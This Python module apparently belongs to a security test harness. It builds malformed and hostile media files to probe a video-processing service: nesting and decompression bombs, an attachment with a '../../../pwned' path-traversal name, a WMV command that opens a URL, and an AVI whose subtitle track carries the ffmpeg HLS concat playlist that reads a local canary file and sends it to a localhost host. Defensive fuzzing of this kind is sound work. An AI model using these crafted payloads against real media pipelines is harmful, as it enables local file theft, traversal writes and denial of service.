"""Matroska, AVI, ASF, FLV and transport streams that lie, nest, or name other files."""

import struct
import zlib

from harness.hostile import crafting
from harness.hostile.catalogue import OK, Scene, bomb
from harness.hostile.crafting import element
from harness.hostile.stream_bombs import H264
from harness.samples.media import photo

EBML, SEGMENT, CLUSTER, TRACKS, TRACK = 0x1A45DFA3, 0x18538067, 0x1F43B675, 0x1654AE6B, 0xAE
INFO, TAGS, TAG, SIMPLE_TAG, VOID = 0x1549A966, 0x1254C367, 0x7373, 0x67C8, 0xEC
ATTACHMENTS, ATTACHED, CHAPTERS = 0x1941A469, 0x61A7, 0x1043A770
UNKNOWN = (1 << 56) - 1  # a size that means "until something else begins"
NEVER_STREAMED = ("CORRUPT", "UNSUPPORTED", "NO_VIDEO", OK)


def _clip(scene: Scene, name: str, *words: object) -> bytes:
    source = "testsrc2=s=64x64:r=10:d=0.5"
    return crafting.made(scene.folder, name, "-f", "lavfi", "-i", source, *words)


def _matroska(scene: Scene) -> tuple[bytes, bytes]:
    """A header, and what is in the segment, of a small and honest mkv."""
    data = _clip(scene, "in.mkv", *H264)
    at = data.index(SEGMENT.to_bytes(4, "big"))
    return data[:at], data[at + 12 :]


def _with_elements(scene: Scene, extra: bytes) -> bytes:
    head, body = _matroska(scene)
    first = body.index(INFO.to_bytes(4, "big"))
    return head + element(SEGMENT, extra + body[first:])


@bomb("CORRUPT", OK)
def mkv_of_a_million_voids(scene: Scene) -> bytes:
    return _with_elements(scene, b"\xec\x80" * 1_000_000)


@bomb("CORRUPT", OK)
def mkv_void_of_64_petabytes(scene: Scene) -> bytes:
    return _with_elements(scene, element(VOID, b"", size=(1 << 56) - 2))


@bomb("CORRUPT", OK)
def mkv_of_ten_thousand_nested_tags(scene: Scene) -> bytes:
    deep = b""
    for _ in range(10_000):
        deep = element(SIMPLE_TAG, deep)
    return _with_elements(scene, element(TAGS, element(TAG, deep)))


@bomb("CORRUPT", OK)
def mkv_of_nested_segments_without_end(scene: Scene) -> bytes:
    head, body = _matroska(scene)
    return head + element(SEGMENT, b"", size=UNKNOWN) * 5_000 + body


@bomb("CORRUPT", OK)
def mkv_of_clusters_without_end(scene: Scene) -> bytes:
    head, body = _matroska(scene)
    return head + element(SEGMENT, body, UNKNOWN) + element(CLUSTER, b"", UNKNOWN) * 100_000


@bomb(*NEVER_STREAMED)
def mkv_of_a_thousand_tracks(scene: Scene) -> bytes:
    head, body = _matroska(scene)
    at = body.index(TRACKS.to_bytes(4, "big"))
    length = 9 - body[at + 4].bit_length()
    size = int.from_bytes(body[at + 4 : at + 4 + length], "big") & ((1 << 7 * length) - 1)
    inside = body[at + 4 + length :][:size]
    track = inside[inside.index(b"\xae") :]
    rest = body[at + 4 + length + size :]
    return head + element(SEGMENT, body[:at] + element(TRACKS, track * 1_000) + rest)


@bomb(OK)
def mkv_with_an_attachment_that_climbs(scene: Scene) -> bytes:
    name = element(0x466E, b"../../../pwned")
    kind, content = element(0x4660, b"text/html"), element(0x465C, b"<script>" * 1_000)
    attached = element(ATTACHED, name + kind + content + element(0x46AE, b"\x01"))
    return _with_elements(scene, element(ATTACHMENTS, attached))


@bomb(OK)
def mkv_with_chapters_of_another_file(scene: Scene) -> bytes:
    """Ordered chapters that ask the player to look for a segment by its number nearby."""
    link = element(0x6E67, bytes(range(16))) + element(0x91, b"\0") + element(0x73C4, b"\x01")
    edition = element(0x45B9, element(0x45DD, b"\x01") + element(0xB6, link))
    return _with_elements(scene, element(CHAPTERS, edition))


@bomb(*NEVER_STREAMED)
def mkv_private_data_that_unpacks_to_a_gigabyte(scene: Scene) -> bytes:
    """The track's contents are said to be compressed, its codec's own data among them."""
    method = element(0x5034, element(0x4254, b"\0"))
    scope = element(0x5032, b"\x03") + element(0x5031, b"\0") + element(0x5033, b"\0")
    packed = element(0x63A2, crafting.deflated_zeros(1 << 30))
    encodings = element(0x6D80, element(0x6240, scope + method))
    video = element(0xE0, element(0xB0, b"\x40") + element(0xBA, b"\x40"))
    words = element(0xD7, b"\x01") + element(0x73C5, b"\x01") + element(0x83, b"\x01")
    track = element(TRACK, words + element(0x86, b"V_MPEG4/ISO/AVC") + encodings + packed + video)
    head, _ = _matroska(scene)
    return head + element(SEGMENT, element(INFO, b"") + element(TRACKS, track))


def _avi_with_subtitles(subtitles: bytes) -> bytes:
    head = b"GAB2\0" + struct.pack("<HI", 2, 4) + b"a\0\0\0" + struct.pack("<HI", 4, len(subtitles))
    streams = [
        (crafting.avi_stream(b"vids", b"MJPG"), crafting.avi_picture_format(64, 64, b"MJPG")),
        (crafting.avi_stream(b"txts", bytes(4)), b""),
    ]
    picture = crafting.saved(photo((64, 64)), "JPEG", quality=97)
    packets = [(b"01tx", head + subtitles), *([(b"00dc", picture)] * 10)]
    return crafting.avi(streams, packets)


@bomb(OK, "CORRUPT", named="in.avi")
def avi_with_a_playlist_as_subtitles(scene: Scene) -> bytes:
    """What once made ffmpeg send a file of its machine to somebody's host, as a picture of text."""
    return _avi_with_subtitles(
        (
            "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:1\n#EXTINF:1.0,\n"
            f"concat:http://127.0.0.1:{scene.port}/head.m3u8|file://{scene.canary}\n"
            "#EXT-X-ENDLIST\n"
        ).encode()
    )


@bomb(OK, "CORRUPT", named="in.avi")
def avi_with_a_page_of_text_as_subtitles(scene: Scene) -> bytes:
    page = b"XBIN\x1a" + struct.pack("<HHBB", 80, 25, 16, 0) + f"{scene.canary}".encode()
    playlist = f"#EXTM3U\n#EXT-X-BYTERANGE:99\n#EXTINF:1,\n{scene.canary}\n#EXT-X-ENDLIST\n"
    return _avi_with_subtitles(page + playlist.encode())


@bomb(OK, "CORRUPT", named="in.avi")
def avi_with_an_index_of_four_billion(scene: Scene) -> bytes:
    data = _clip(scene, "in.avi", "-c:v", "mjpeg", "-q:v", 2)
    at = data.rindex(b"idx1") + 4
    return data[:at] + b"\xff\xff\xff\x7f" + data[at + 4 :]


@bomb(*NEVER_STREAMED, named="in.avi")
def avi_of_a_thousand_streams(scene: Scene) -> bytes:
    picture = crafting.saved(photo((64, 64)), "JPEG", quality=97)
    form = crafting.avi_picture_format(64, 64, b"MJPG")
    streams = [(crafting.avi_stream(b"vids", b"MJPG"), form)] * 1_000
    return crafting.avi(streams, [(b"00dc", picture)] * 10)


def _ts_packet(pid: int, table: bytes) -> bytes:
    """A table of programs with its checksum, in as many packets as it takes."""
    value = 0xFFFFFFFF
    for byte in table:
        value ^= byte << 24
        for _ in range(8):
            value = (value << 1 ^ (0x04C11DB7 if value & 0x80000000 else 0)) & 0xFFFFFFFF
    data = b"\0" + table + struct.pack(">I", value)
    packets = b""
    for number, at in enumerate(range(0, len(data), 184)):
        head = struct.pack(">BHB", 0x47, pid | (0x4000 if number == 0 else 0), 0x10 | number & 15)
        packets += head + data[at : at + 184].ljust(184, b"\xff")
    return packets


def _ts_table(identity: int, number: int, body: bytes) -> bytes:
    length = 0xB000 | len(body) + 9
    return struct.pack(">BHHBBB", identity, length, number, 0xC1, 0, 0) + body


@bomb(*NEVER_STREAMED, named="in.ts")
def ts_of_a_thousand_streams(scene: Scene) -> bytes:
    programs = range(1, 6)
    listed = b"".join(struct.pack(">HH", n, 0xE000 | 0x100 + n) for n in programs)
    tables = _ts_packet(0, _ts_table(0, 1, listed))
    for n in programs:
        streams = b"".join(
            struct.pack(">BHH", 0x1B, 0xE000 | 0x200 + 200 * n + one, 0xF000) for one in range(200)
        )
        tables += _ts_packet(
            0x100 + n, _ts_table(2, n, struct.pack(">HH", 0xFFFF, 0xF000) + streams)
        )
    return tables * 3 + _clip(scene, "in.ts", *H264)


@bomb(OK, named="in.wmv")
def wmv_with_a_command_to_open_a_page(scene: Scene) -> bytes:
    data = _clip(scene, "in.wmv", "-c:v", "wmv2", "-q:v", 1)
    address = f"http://127.0.0.1:{scene.port}/a.htm".encode("utf-16-le") + b"\0\0"
    body = bytes(16) + struct.pack("<HH", 1, 1)
    body += struct.pack("<H", 3) + "URL".encode("utf-16-le")
    body += struct.pack("<IHH", 0, 0, len(address) // 2) + address
    guid = bytes.fromhex("301afb1e620bd011a39b00a0c90348f6")
    command = guid + struct.pack("<Q", 24 + len(body)) + body
    size, count = struct.unpack_from("<QI", data, 16)
    head = data[:16] + struct.pack("<QI", size + len(command), count + 1) + data[28:30]
    grown = bytearray(head + command + data[30:])
    at = grown.index(bytes.fromhex("a1dcab8c47a9cf118ee400c00c205365"))
    struct.pack_into("<Q", grown, at + 40, len(grown))
    return bytes(grown)


@bomb("CORRUPT", "NO_VIDEO", OK, named="in.flv")
def flv_of_ten_thousand_nested_objects(scene: Scene) -> bytes:
    data = _clip(scene, "in.flv", "-c:v", "flv1", "-q:v", 1)
    script = b"\x02\0\x0aonMetaData" + (b"\x03\0\x01a" * 10_000)
    tag = b"\x12" + len(script).to_bytes(3, "big") + bytes(7) + script
    return data[:13] + tag + struct.pack(">I", len(tag)) + data[13:]


@bomb("CORRUPT", "NO_VIDEO")
def playlist_behind_signatures(scene: Scene) -> bytes:
    playlist = f"#EXTM3U\n#EXTINF:1,\nhttp://127.0.0.1:{scene.port}/a.ts\n#EXT-X-ENDLIST\n"
    return b"\x1aE\xdf\xa3" + playlist.encode() + zlib.compress(playlist.encode())
